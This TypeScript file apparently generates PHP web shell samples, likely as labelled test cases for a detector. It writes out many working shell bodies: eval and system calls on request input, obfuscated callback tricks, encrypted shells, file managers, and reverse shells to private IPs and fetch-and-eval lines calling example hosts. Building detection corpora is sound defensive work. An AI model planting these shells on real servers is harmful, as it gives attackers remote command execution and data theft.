import type { Case } from './index.ts'
import { LOADERS, SPELLINGS } from './php-texts.ts'
import type { Random } from './random.ts'

const REQUESTS = [
  "$_POST['a']",
  '$_GET[0]',
  '$_REQUEST["cmd"]',
  "$_COOKIE['k']",
  "base64_decode($_POST['z'])",
  "$_SERVER['HTTP_X_A']",
  "getenv('HTTP_USER_AGENT')",
  "file_get_contents('php://input')",
  "filter_input(INPUT_POST,'x')",
  "${'_'.'POST'}['q']",
  "stripslashes($_POST['c'])",
  "str_rot13($_GET['r'])",
  "$GLOBALS['_POST']['g']",
  'current($_POST)',
  'end($_GET)',
  "hex2bin($_POST['h'])",
  "getallheaders()['X-Cmd']",
  '$_REQUEST[chr(97)]',
  '@$_POST[pass]',
  "implode('',$_POST)",
]
const CODE = ['assert']
const COMMANDS = ['system', 'passthru', 'shell_exec', 'exec', 'popen']
const NOISE = [
  '/* %s */',
  'error_reporting(0);',
  '@set_time_limit(0);',
  "@ini_set('display_errors',0);",
  '// %s\n',
  '# %s\n',
]

/** What runs the request: each gives a program without its tag. */
const BODIES: Readonly<Record<string, (request: string, random: Random) => string>> = {
  eval: (request) => `@eval(${request});`,
  'eval of joined text': (request) => `$s='$x='.${request}.';';eval($s);`,
  backticks: (request) => `$c=${request};echo \`$c\`;`,
  command: (request, random) => `echo ${random.pick(COMMANDS)}(${request});`,
  'command with more': (request, random) => `$c=${request};${random.pick(COMMANDS)}("$c 2>&1",$o);print_r($o);`,
  process: (request) => `$p=proc_open(${request},array(1=>array('pipe','w')),$x);echo stream_get_contents($x[1]);`,
  'created function': (request) => `$f=create_function('',${request});$f();`,
  'regular expression': (request) => `@preg_replace('/.*/e',${request},'a');`,
  include: (request) => `include 'data:text/plain,'.${request};`,
  closure: (request) => `$f=function($x){eval($x);};$f(${request});`,
  function: (request, random) => {
    const f = random.name()
    return `function q${f}($a){return eval($a);}q${f}(${request});`
  },
  class: (request, random) => {
    const n = random.name()
    return `class Q${n}{public $v;function __construct($x){$this->v=$x;}function run(){assert($this->v);}}$o=new Q${n}(${request});$o->run();`
  },
  destructor: (request, random) => {
    const n = random.name()
    return `class D${n}{public $v='';function __destruct(){eval($this->v);}}$o=new D${n};$o->v=${request};`
  },
  'static field': (request, random) => {
    const n = random.name()
    return `class S${n}{static $v;static function go(){system(self::$v);}}S${n}::$v=${request};S${n}::go();`
  },
  invoked: (request, random) => {
    const n = random.name()
    return `class I${n}{function __invoke($p){eval($p.'');}}call_user_func(new I${n}(),${request});`
  },
  'variable variable': (request, random) => {
    const n = random.name()
    return `$n='${n}';$$n=${request};eval($${n});`
  },
  reference: (request) => `$a=array();$b=&$a;$b=${request};eval($b);`,
  loop: (request) => `foreach(array(${request}) as $c){eval($c);}`,
  switch: (request) => `switch(1){case 1:$c=${request};default:@eval($c);}`,
  goto: (request) => `goto b;a:eval($c);goto e;b:$c=${request};goto a;e:;`,
  reflection: (request) => `$r=new ReflectionFunction('system');$r->invoke(${request});`,
  written: (request) => `file_put_contents($_GET['n'],${request});`,
  'written script': (request) => `$h=fopen('a.php','w');fwrite($h,${request});fclose($h);`,
}

/** A function whose name is spelt some way calls what the request brings. */
const CALLS: Readonly<Record<string, (name: string, request: string) => string>> = {
  called: (name, request) => `$f=${name};$f(${request});`,
  'called at once': (name, request) => `(${name})(${request});`,
  array_map: (name, request) => `array_map(${name},array(${request}));`,
  array_filter: (name, request) => `$a=array(${request});array_filter($a,${name});`,
  array_walk: (name, request) => `$a=array(${request}=>1,2=>${request});array_walk($a,${name});`,
  usort: (name, request) => `$a=array(${request},'x');usort($a,${name});`,
  call_user_func: (name, request) => `call_user_func(${name},${request});`,
  call_user_func_array: (name, request) => `call_user_func_array(${name},array(${request}));`,
  shutdown: (name, request) => `register_shutdown_function(${name},${request});`,
  filter_var: (name, request) => `filter_var(${request},FILTER_CALLBACK,array('options'=>${name}));`,
  array_reduce: (name, request) => `array_reduce(array(1),${name},${request});`,
  preg_replace_callback: (name, request) =>
    `preg_replace_callback('/.+/',function($m){$f=${name};return $f($m[0]);},${request});`,
  array_udiff: (name, request) => `array_udiff(array(${request}),array(1),${name});`,
  iterator: (name, request) => `$i=new ArrayIterator(array(1));iterator_apply($i,${name},array(${request}));`,
}

/** Whole programs, as they are found. */
const WHOLE: Readonly<Record<string, (random: Random) => string>> = {
  uploader: (r) =>
    `if(isset($_FILES['${r.name()}'])){$t='./'.$_FILES['f']['name'];if(move_uploaded_file($_FILES['f']['tmp_name'],$t))echo 'ok';}`,
  copier: () => "if($_POST['u']){@copy($_FILES['file']['tmp_name'],$_FILES['file']['name']);}",
  'request names all': (r) => `foreach($_REQUEST as $k=>$v)$$k=$v;${r.pick(COMMANDS)}($${r.name()});`,
  extract: (r) => `extract($_POST);$${r.name()}x($${r.name()}y);`,
  'function of the request': () => "$_GET['f']($_POST['a']);",
  'cookie parts': () => "$c=explode('|',$_COOKIE['s']);if(count($c)>1){$c[0]($c[1]);}",
  'reverse shell': (r) =>
    `$s=fsockopen('10.0.${r.below(9)}.1',${4000 + r.below(999)});$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$q);`,
  'reverse shell by bash': (r) => `exec("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.${r.below(250)}/443 0>&1'");`,
  'loop of a connection': () => "$s=fsockopen('10.1.1.1',80);while(!feof($s)){$c=fgets($s);fwrite($s,shell_exec($c));}",
  tunnel: () =>
    "$h=getallheaders();$s=fsockopen($h['X-Host'],intval($_GET['p']));fwrite($s,file_get_contents('php://input'));echo fread($s,4096);",
  fetched: (r) => `eval(file_get_contents('http://h${r.name()}.example/${r.name()}.txt'));`,
  'fetched by curl': () =>
    "$c=curl_init('https://a.example/x');curl_setopt($c,19913,1);$b=curl_exec($c);eval('?>'.$b);",
  picture: () => '@include "\\x2fvar\\x2fwww/img/logo.png";',
  'encrypted by key': (r) =>
    `$key='${r.name()}0123';$post=file_get_contents('php://input');if(!extension_loaded('openssl')){$t='base64_'.'decode';$post=$t($post);for($i=0;$i<strlen($post);$i++)$post[$i]=$post[$i]^$key[$i+1&15];}else $post=openssl_decrypt($post,'AES128',$key);$a=explode('|',$post);class C{public function __invoke($p){eval($p.'');}}@call_user_func(new C(),$a[1]);`,
  'kept in the session': () =>
    "@session_start();function enc($d,$k){for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];}return $d;}$key='0123456789abcdef';$data=enc(base64_decode($_POST['p']),$key);if(isset($_SESSION['x'])){$q=enc($_SESSION['x'],$key);eval($q);}else $_SESSION['x']=enc($data,$key);",
  'file manager': () =>
    "$d=isset($_GET['d'])?$_GET['d']:'.';if(isset($_POST['save'])){$h=fopen($_POST['f'],'w');fwrite($h,$_POST['c']);}if($_GET['del'])unlink($_GET['del']);if($_GET['ren'])rename($_GET['ren'],$_GET['to']);foreach(scandir($d) as $f)echo $f;if($_GET['v'])readfile($_GET['v']);chmod($_GET['m'],0777);",
  'command console': () =>
    "if(get_magic_quotes_gpc())$_POST=array_map('stripslashes',$_POST);function ex($c){$o='';if(function_exists('exec')){exec($c,$r);$o=join(\"\\n\",$r);}elseif(is_callable('shell_exec'))$o=shell_exec($c);elseif(is_resource($f=popen($c,'r'))){while(!feof($f))$o.=fread($f,1024);}return $o;}echo ex($_POST['cmd']);",
  'register globals': () => 'passthru($cmd);',
  increments: () =>
    "$_='A';$_++;$_++;$_++;$_++;$__=$_;$_='P';$___='_'.$_;$_='O';$___.=$_;$_='S';$___.=$_;$_='T';$___.=$_;$x=$$___;$f='sys'.'tem';$f($x[0]);",
  'comments of a class': () => '/** x */class A{function a(){eval($_REQUEST["q"]);}}$m="a";(new A)->$m();',
  'html around': () =>
    "?><html><body><form method=post><input name=c></form><pre><?php echo shell_exec($_POST['c']); ?></pre></body></html><?php ",
}

/** Every family with every way to hide it, drawn by the seed. */
export function phpShells(random: Random): Case[] {
  const cases: Case[] = []
  const add = (family: string, code: string): void => {
    const noise = random.pick(NOISE).replace('%s', random.name())
    const open = random.pick(['<?php ', '<?php\n', '<?PHP ', '<?php /*x*/ '])
    cases.push({ language: 'php', family, text: `${open}${random.below(2) === 0 ? `${noise} ` : ''}${code}` })
  }
  for (const [name, body] of Object.entries(BODIES)) {
    for (let index = 0; index < 12; index += 1) add(`php ${name}`, body(random.pick(REQUESTS), random))
  }
  for (const [spelling, spell] of Object.entries(SPELLINGS)) {
    for (const [call, write] of Object.entries(CALLS)) {
      const name = random.pick(random.below(2) === 0 ? CODE : COMMANDS.slice(0, 4))
      add(`php ${spelling}, ${call}`, write(spell(name, random), random.pick(REQUESTS)))
    }
  }
  for (const [loader, load] of Object.entries(LOADERS)) {
    for (let index = 0; index < 12; index += 1) {
      let code = random.pick(Object.values(BODIES))(random.pick(REQUESTS), random)
      code = load(code, random)
      for (let layer = random.below(6); layer > 0; layer -= 1)
        code = random.pick(Object.values(LOADERS).slice(0, 4))(code, random)
      add(`php hidden by ${loader}`, code)
    }
  }
  for (const [name, whole] of Object.entries(WHOLE))
    for (let index = 0; index < 4; index += 1) add(`php ${name}`, whole(random))
  return cases
}
